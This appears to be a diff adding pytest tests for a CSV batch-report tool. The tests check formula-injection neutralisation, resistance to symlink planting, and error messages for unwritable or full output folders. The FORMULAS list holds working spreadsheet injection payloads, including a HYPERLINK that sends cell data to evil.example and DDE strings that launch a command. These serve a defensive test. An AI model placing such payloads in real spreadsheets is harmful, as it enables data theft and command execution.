@@ -260,3 +260,98 @@ def test_the_template_into_a_read_only_folder_is_a_message(tmp_path):
         folder.chmod(0o700)
     assert result.exit_code == 1 and "Permission denied" in result.stderr
     assert list(folder.iterdir()) == []
+
+
+# The report and the output folder
+
+
+def write_rows(path: Path, rows: list[list[str]]) -> Path:
+    with path.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+    return path
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")', "=cmd|' /C calc'!A0", "+1+1", "-1+1",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "Net;=1+1", "Net\n=1+1", "\uff1d1+1"]  # fmt: skip
+
+
+def test_the_report_never_runs_a_cell_as_a_formula(tmp_path):
+    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"]] + [[name, "Atlantis"] for name in FORMULAS])
+    result = run("batch", sheet, "--out", tmp_path / "kits")
+    assert result.exit_code == 1
+    text = (tmp_path / "kits" / "batch-report.csv").read_text(encoding="utf-8-sig")
+    for delimiter in ",;":  # as Excel splits it where the list separator is a comma, and a semicolon
+        for line in text.splitlines():
+            for cell in csv.reader([line], delimiter=delimiter):
+                assert not any(c.lstrip('"').startswith(("=", "+", "-", "@", "\uff1d")) for c in cell), line
+    assert [r["network"] for r in report(tmp_path / "kits")][:2] == ["'" + FORMULAS[0], "'" + FORMULAS[1]]
+
+
+def test_a_symlink_planted_at_the_old_partial_name_is_not_followed(tmp_path):
+    out = tmp_path / "kits"
+    out.mkdir()
+    victim = tmp_path / "victim.txt"
+    victim.write_text("precious", encoding="utf-8")
+    (out / "batch-report.csv.partial").symlink_to(victim)
+    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"], ["Net", "Atlantis"]])
+    assert run("batch", sheet, "--out", out).exit_code == 1
+    assert victim.read_text(encoding="utf-8") == "precious"
+    assert not (out / "batch-report.csv").is_symlink() and report(out)[0]["status"] == "invalid"
+    assert sorted(p.name for p in out.iterdir()) == ["batch-report.csv", "batch-report.csv.partial"]
+
+
+def test_the_report_gives_kit_folders_relative_to_itself(tmp_path):
+    sheet = write_csv(tmp_path / "s.csv", "network_name,country\nSame Name,KE\nSame Name,UA\n")
+    out = (tmp_path / "kits").absolute()
+    assert run("batch", sheet, "--out", out, "--jobs", "2").exit_code == 0
+    assert [r["kit_path"] for r in report(out)] == ["same-name", "same-name-2"]
+    assert str(tmp_path) not in (out / "batch-report.csv").read_text(encoding="utf-8-sig")
+    again = run("batch", sheet, "--out", out, "--jobs", "2")
+    assert [r["kit_path"] for r in report(out)] == ["same-name", "same-name-2"] and again.exit_code == 0
+
+
+def test_an_output_folder_under_a_file_is_a_message(tmp_path):
+    (tmp_path / "notes.txt").write_text("mine", encoding="utf-8")
+    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"], ["Net", "KE"]])
+    result = run("batch", sheet, "--out", tmp_path / "notes.txt" / "kits")
+    assert result.exit_code == 1
+    assert "notes.txt is a file, not a folder" in result.stderr and "--out" in result.stderr
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["notes.txt", "s.csv"]
+
+
+def test_a_read_only_output_folder_is_a_message_and_nothing_is_built(tmp_path):
+    out = read_only_folder(tmp_path / "kits")
+    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"], ["Net", "KE"]])
+    try:
+        result = run("batch", sheet, "--out", out)
+    finally:
+        out.chmod(0o700)
+    assert result.exit_code == 1
+    assert "cannot write in" in result.stderr and "Permission denied" in result.stderr
+    assert list(out.iterdir()) == []
+
+
+def test_a_full_disk_is_a_message_and_leaves_nothing(tmp_path):
+    sheet = write_rows(tmp_path / "s.csv", [["network_name", "country"], ["Net", "KE"]])
+    disk = tmp_path / "disk"
+    disk.mkdir()
+    with disk_full(disk):
+        result = run("batch", sheet, "--out", disk / "kits")
+    assert result.exit_code == 1
+    assert "No space left on device" in result.stderr and "Traceback" not in result.output
+    assert list(disk.iterdir()) == []
+
+
+def test_kits_finished_while_stopping_are_reported_built(tmp_path):
+    sheet = write_csv(tmp_path / "s.csv", "network_name,country\nFirst,KE\nSecond,KE\nThird,KE\n")
+    out = tmp_path / "kits"
+
+    def stop_after_first(result):
+        raise KeyboardInterrupt
+
+    with pytest.raises(KeyboardInterrupt):
+        run_batch(sheet, load_kit(), BuildOptions(out=out), jobs=2, on_progress=stop_after_first)
+    folders = {p.name for p in out.iterdir() if p.is_dir()}
+    built = {r["kit_path"] for r in report(out) if r["status"] == "built"}
+    assert folders == built and len(built) >= 2
+    assert not list(out.glob(".ngokit-work-*"))
